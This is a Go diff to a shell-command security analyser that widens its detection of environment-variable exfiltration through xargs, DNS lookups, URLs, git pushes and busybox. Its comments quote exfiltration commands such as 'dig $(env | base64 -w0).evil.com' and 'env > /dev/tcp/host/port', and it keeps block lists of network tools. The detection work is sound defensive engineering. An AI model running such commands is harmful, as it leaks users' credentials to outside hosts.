@@ -2173,9 +2173,10 @@ func (r *run) noteSecretOuts(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, o
 	}
 	environ := false
 	if text := r.nodeText(sc, s); strings.Contains(text, "env") || strings.Contains(text, "set") || strings.Contains(text, "export") ||
-		strings.Contains(text, "declare") || strings.Contains(text, "typeset") || strings.Contains(text, "nv:") || strings.Contains(text, "NV:") {
+		strings.Contains(text, "declare") || strings.Contains(text, "typeset") || strings.Contains(text, "nv:") || strings.Contains(text, "NV") {
 		// Only a dump of the environment holds it (env, printenv, set,
-		// export -p, declare -x, typeset -x, through any wrapper).
+		// export -p, declare -x, typeset -x, through any wrapper; the
+		// environPrinters, whose words say env, export or ENV).
 		environ = r.pipeInput(sc, s, false).environ
 	}
 	secret := ""
@@ -2721,6 +2722,9 @@ func (r *run) programOutput(sc *scope, up *syntax.Stmt, fs []field, paths bool) 
 	if psEnvDrive(fs) {
 		return input{kind: inUnknown, environ: true, detail: "the environment from PowerShell's Env: drive"}
 	}
+	if b := base(fs[0].val); environPrinters[b] != nil && environDump(b, args) {
+		return input{kind: inUnknown, environ: true, detail: "the environment from " + b}
+	}
 	switch b := base(fs[0].val); b {
 	case "echo", "printf":
 		for _, f := range args {
@@ -3128,8 +3132,12 @@ func (r *run) redirEnviron(sc *scope, st *syntax.Stmt) bool {
 // environDump reports whether the builtin or program b with args prints
 // the whole environment with its values: env and printenv without a
 // command or name, set without arguments, export -p, declare and typeset
-// -p or -x without names.
+// -p or -x without names, and the environPrinters when their arguments
+// say so.
 func environDump(b string, args []field) bool {
+	if p := environPrinters[b]; p != nil {
+		return p(args)
+	}
 	var ops []field
 	opts := ""
 	for _, a := range args {
@@ -3187,15 +3195,31 @@ var networkSenders = map[string]bool{"curl": true, "wget": true, "nc": true, "nc
 // (env > /dev/tcp/host/port). The environment holds what the
 // environment's variables hold, secrets included, as /proc/self/environ
 // does.
+//
+// The network is also reached by a program that sends its input elsewhere
+// without being a network client at heart (aws s3 cp - s3://..., rclone
+// rcat, pastebinit: sendsInput), by xargs or parallel handing the items
+// they read to such a program (env | xargs -I{} curl URL/{}: the
+// environment goes into the URL), by a name looked up in DNS (dig
+// $(env | base64 -w0).evil.com) and by a URL any program is given; and a
+// file filled with the environment, committed and pushed by git, is sent
+// too (see gitSendsHeld).
 func (r *run) environSent(sc *scope, fs []field, in input, net, cmd string) {
 	b := base(fs[0].val)
+	if b == "git" {
+		r.gitSendsHeld(fs, cmd)
+	}
 	switch {
 	case in.shellOut && networkSenders[b]:
 		r.finding(ruleReverseShell, Command, Block, b+" hands "+in.detail+" to a network peer", cmd, "")
-	case in.environ && networkSenders[b]:
+	case in.environ && sendsInput(b, fs[1:]):
 		r.finding(ruleSensitivePath, Path, Block, b+" sends "+in.detail+", which holds the shell's secrets, to another host", cmd, "")
-	case networkSenders[b] && slices.ContainsFunc(fs[1:], func(f field) bool { return f.why == whyEnviron || r.procEnviron(sc, f) }):
+	case in.environ && itemRunners[b] && runsSender(fs[1:]):
+		r.finding(ruleSensitivePath, Path, Block, b+" hands "+in.detail+", which holds the shell's secrets, to a program that sends it to another host", cmd, "")
+	case (networkSenders[b] || nameLookups[b]) && slices.ContainsFunc(fs[1:], func(f field) bool { return f.why == whyEnviron || r.procEnviron(sc, f) }):
 		r.finding(ruleSensitivePath, Path, Block, b+" is given the environment, which holds the shell's secrets, to send to another host", cmd, "")
+	case slices.ContainsFunc(fs[1:], func(f field) bool { return f.why == whyEnviron && strings.Contains(f.val, "://") }):
+		r.finding(ruleSensitivePath, Path, Block, b+" is given a URL that holds the environment, which holds the shell's secrets", cmd, "")
 	case net != "" && environDump(b, fs[1:]):
 		r.finding(ruleSensitivePath, Path, Block, b+" writes the environment, which holds the shell's secrets, to "+net, cmd, "")
 	}
@@ -4075,7 +4099,8 @@ func (r *run) substEnviron(sc *scope, stmts []*syntax.Stmt) bool {
 		if call, ok := first.Cmd.(*syntax.CallExpr); ok && len(call.Args) > 0 {
 			_, fn := sc.funcs[call.Args[0].Lit()] // f() { env; }; curl -d "$(f)"
 			switch n := base(call.Args[0].Lit()); {
-			case n == "env" || n == "printenv" || n == "set" || n == "export" || wrapsCommand(n) || fn || psEnvReaders[asciiLower(n)]:
+			case n == "env" || n == "printenv" || n == "set" || n == "export" || wrapsCommand(n) || fn || psEnvReaders[asciiLower(n)] ||
+				environPrinters[n] != nil:
 			case (n == "cat" || pathFilters[n] || encoders[n]) && len(first.Redirs) > 0:
 			default:
 				continue
@@ -4385,7 +4410,7 @@ func andChain(s *syntax.Stmt, calls *[]*syntax.CallExpr) bool {
 // passes such a name on too.
 func wrapsCommand(b string) bool {
 	switch b {
-	case "sudo", "doas", "command", "builtin", "nohup", "env":
+	case "sudo", "doas", "command", "builtin", "nohup", "env", "busybox", "toybox":
 		return true
 	}
 	ce := builtinCatalog()[b]
@@ -4394,8 +4419,10 @@ func wrapsCommand(b string) bool {
 
 // innerCommand returns the command a line of wrappers runs, whose output
 // is theirs (timeout 5 echo CMD | sh is echo CMD | sh): the catalogue's
-// pure wrappers (pureWrapper), sudo and doas, and command, builtin, nohup
-// and env with assignments. Any other program is left as it is.
+// pure wrappers (pureWrapper), sudo and doas, command, builtin, nohup
+// and env with assignments, and busybox and toybox, which run the applet
+// their first argument names (busybox env prints as env does). Any other
+// program is left as it is.
 func innerCommand(fs []field) []field {
 	for range maxStaticOutput {
 		if len(fs) < 2 || fs[0].dyn {
@@ -4409,6 +4436,13 @@ func innerCommand(fs []field) []field {
 				return fs
 			}
 			fs = rest
+			continue
+		}
+		if b == "busybox" || b == "toybox" {
+			if fs[1].dyn || strings.HasPrefix(fs[1].val, "-") {
+				return fs
+			}
+			fs = fs[1:]
 			continue
 		}
 		if ce := builtinCatalog()[b]; ce != nil && ce.pure {
